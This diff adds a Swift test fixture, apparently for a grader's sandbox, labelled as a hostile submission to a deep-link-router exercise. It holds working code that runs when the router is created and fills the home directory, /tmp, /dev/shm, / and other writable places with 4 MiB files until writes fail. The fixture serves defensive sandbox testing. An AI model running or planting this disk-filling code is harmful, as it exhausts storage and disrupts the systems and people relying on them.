@@ -1,0 +1,29 @@
+// hostile: a correct router that fills every place it can write (home, /tmp, /var/tmp, /dev/shm, the working
+// directory, /) with 4 MiB files until the writes fail, then goes on
+// expect: passed
+// base: solution
+// hook: Router
+// exercise: deep-link-router
+import Foundation
+
+/// The hostile part, run once, when the checks first create the learner's router.
+@MainActor func attack() {
+    fillEveryWritablePlace()
+}
+
+func fillEveryWritablePlace() {
+    signal(SIGXFSZ, SIG_IGN)
+    let chunk = [UInt8](repeating: 0x51, count: 4 << 20)
+    let places = [NSHomeDirectory(), "/tmp", "/var/tmp", "/dev/shm", FileManager.default.currentDirectoryPath, "/", "/dev"]
+    for place in places {
+        var index = 0
+        while index < 10_000 {
+            let descriptor = open("\(place)/fill-\(index)", O_WRONLY | O_CREAT | O_TRUNC, 0o600)
+            if descriptor < 0 { break }
+            let written = chunk.withUnsafeBytes { write(descriptor, $0.baseAddress, $0.count) }
+            close(descriptor)
+            if written != chunk.count { break }
+            index += 1
+        }
+    }
+}
